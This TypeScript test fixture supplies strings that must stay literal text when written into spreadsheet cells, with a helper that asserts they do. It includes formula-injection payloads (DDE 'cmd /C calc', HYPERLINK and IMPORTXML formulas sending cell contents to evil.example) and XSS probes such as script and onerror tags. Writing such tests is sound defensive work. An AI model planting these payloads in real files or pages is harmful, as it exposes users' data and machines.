// A hundred texts that are not what they seem: formulas, numbers, dates and markup in disguise. Whoever writes a person's
// text into a cell has to carry all of them through unchanged.

import type { Grid, GridCell } from '../../host/grid/grid';

/** What makes a spreadsheet take a text for a formula, alone or behind what a person does not see. */
const PREFIXES = [
  ...['=', '+', '-', '@'],
  ...['\t=', '\r=', '\n=', ' =', '\u00a0=', '\u200b=', '\ufeff='],
  ...['＝', '＋', '－', '＠'],
  ...["'=", "''=", '"=', '=-', '\u202e='],
];

const FORMULAS = ['1+1', "cmd|' /C calc'!A0"];

const CALLS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  '=IMPORTXML("http://evil.example/?"&A1,"//a")',
  '=IMPORTDATA("http://evil.example/?"&A1)',
  '=IMPORTRANGE("1a2b","Sheet1!A1")',
  '=DDE("cmd";"/C calc";"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+IMAGE("http://evil.example/a.png")',
  `=${'1+'.repeat(140)}1`,
];

/** Inside the lines and quotes of a file that somebody opens or makes of it. */
const EMBEDDED = ['a","=1+1","b', 'a;=1+1;b', 'a\n=1+1', 'a\r\n=1+1', ',=1+1', '{"a":"=1+1"}', '["=1+1"]', '"'];

const NUMBERS = ['-5', '+5', '007', ' 007 ', '10%', '1e5', '1E+5', '1 000 000', '1,5', '$5', '.5', '+998901234567'];

const DATES = ['1/2', '1-2', '05.03.2026', '2026-03-05', '12:30', '5 mar'];

const WORDS = ['TRUE', 'false', 'ИСТИНА', '#REF!', '#N/A', '=', "'", "'007"];

const MARKUP = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<!--boot-->',
  '<?= 1 + 1 ?>',
  '"><svg/onload=alert(1)>',
  'javascript:alert(1)',
  '&lt;b&gt;',
  '&#61;1+1',
  '%3D1+1',
  '\\u003d1+1',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to look like one
  '${7*7}',
  '{name}',
  '$& $1 $`',
  '__proto__',
  '_x000D_=1+1',
  '𝟏+𝟏',
];

/** All of them, each once. */
export const PAYLOADS: readonly string[] = [
  ...PREFIXES.flatMap((prefix) => FORMULAS.map((formula) => prefix + formula)),
  ...CALLS,
  ...EMBEDDED,
  ...NUMBERS,
  ...DATES,
  ...WORDS,
  ...MARKUP,
];

/** Where the first of some texts stands; the others stand below it. */
export interface Place {
  readonly sheet: number;
  readonly column: number;
  /** Default: the row below the headings. */
  readonly row?: number;
}

/** Asserts that the cells from the place down hold these very texts: no formula, no number, no date, no sign more or less. */
export function expectStaysText(grid: Grid, { sheet, column, row = 2 }: Place, texts: readonly string[]): void {
  const cells = grid.read(sheet, { row, column, rows: texts.length, columns: 1 });
  expect(cells.map(([cell]) => asText(cell))).toEqual(texts);
}

/** A text as itself; anything else with a word on what it has become. */
function asText(cell: GridCell | undefined): string {
  if (!cell || cell.value === null) return cell?.formula ? `formula ${cell.formula}` : 'blank';
  if (cell.formula !== '') return `formula ${cell.formula}`;
  return typeof cell.value === 'string' ? cell.value : `${typeof cell.value} ${cell.value}`;
}
